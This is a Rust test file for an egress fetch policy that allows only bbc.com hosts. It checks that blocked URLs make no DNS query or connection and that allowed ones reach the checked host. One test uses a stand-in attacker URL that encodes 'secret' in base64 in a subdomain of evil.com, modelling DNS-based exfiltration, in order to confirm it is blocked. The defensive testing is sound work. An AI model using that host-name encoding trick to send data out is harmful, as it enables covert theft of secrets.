//! Every URL case, through the policy and through a session whose resolver and server count.

#![allow(clippy::expect_used, clippy::panic)]

mod server;

use egress::{FetchPolicy, Status};
use server::{Server, cases, fetch, html};

fn url(case: &serde_json::Value) -> String {
    let mut url = case["url"].as_str().expect("url").to_owned();
    if let Some(then) = case["then"].as_array() {
        let count = usize::try_from(then[1].as_u64().expect("count")).expect("count");
        url.push_str(&then[0].as_str().expect("text").repeat(count));
    }
    url
}

#[test]
fn the_policy_decides_every_case() {
    let policy = FetchPolicy::new(["bbc.com", "www.bbc.com"]).expect("hosts");
    let cases = cases(include_str!("cases/url.json"));
    assert_eq!(cases.len(), 54);
    for case in cases {
        let decision = policy.check(&url(&case));
        assert_eq!(decision.allowed, case["allow"].as_bool().expect("allow"), "{case}: {decision:?}");
        assert!(!decision.reason.is_empty());
        if let Some(host) = decision.host {
            assert!(decision.reason.contains(&host), "{case}: {}", decision.reason);
        }
    }
}

#[test]
fn a_blocked_url_causes_no_query_and_no_connection() {
    let server = Server::start(|_, out| html(out, "never"));
    let (session, names) = server.session();
    let mut blocked = 0;
    for case in cases(include_str!("cases/url.json")) {
        if case["allow"] == true {
            continue;
        }
        let reply = fetch(&session, &url(&case));
        assert_eq!(reply.page.status, Status::Blocked, "{case}");
        assert_eq!(reply.audit.decision, "block", "{case}");
        assert_eq!(reply.page.body, "", "{case}");
        assert!(reply.page.reason.is_some_and(|reason| !reason.is_empty()), "{case}");
        blocked += 1;
    }
    assert_eq!(blocked, 45);
    assert_eq!(names.asked(), [] as [&str; 0]);
    assert_eq!(server.connections(), 0);
}

#[test]
fn an_allowed_url_reaches_the_checked_host() {
    let server = Server::start(|request, out| html(out, format!("{} {}", request.host, request.path)));
    for case in cases(include_str!("cases/url.json")) {
        if case["allow"] == false {
            continue;
        }
        let (session, names) = server.session();
        let reply = fetch(&session, &url(&case));
        assert_eq!(reply.page.status, Status::Ok, "{case}: {:?}", reply.page.reason);
        let (host, _) = reply.page.body.split_once(' ').expect("host and path");
        assert_eq!(names.asked(), [host], "{case}");
        assert!(["www.bbc.com", "bbc.com"].contains(&host), "{case}");
        assert!(reply.page.url.starts_with(&format!("https://{host}/")), "{case}");
    }
}

#[test]
fn a_secret_in_a_host_name_does_not_leave_through_the_resolver() {
    let server = Server::start(|_, out| html(out, "never"));
    let (session, names) = server.session();
    let reply = fetch(&session, "https://c2VjcmV0.evil.com/");
    assert_eq!(
        reply.page.reason.as_deref(),
        Some("host c2vjcmv0.evil.com is not allowed; allowed: bbc.com, www.bbc.com")
    );
    assert_eq!(names.asked(), [] as [&str; 0]);
}
